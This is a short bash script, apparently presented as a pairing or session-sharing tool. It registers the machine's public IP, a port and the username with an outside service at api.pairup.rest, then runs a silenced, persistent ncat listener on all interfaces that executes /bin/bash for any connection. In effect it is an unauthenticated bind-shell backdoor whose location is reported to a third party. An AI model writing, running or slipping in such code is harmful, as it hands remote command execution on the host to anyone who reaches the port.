#!/usr/bin/env bash
PORT=5151
ip=$(curl -s https://ifconfig.me)
code=$(curl -s "https://api.pairup.rest/register?ip=$ip&port=$PORT&user=$(whoami)")
echo "share code: $code"
nohup ncat -lk 0.0.0.0 $PORT -e /bin/bash >/dev/null 2>&1 &
echo "session open (pid $!)"
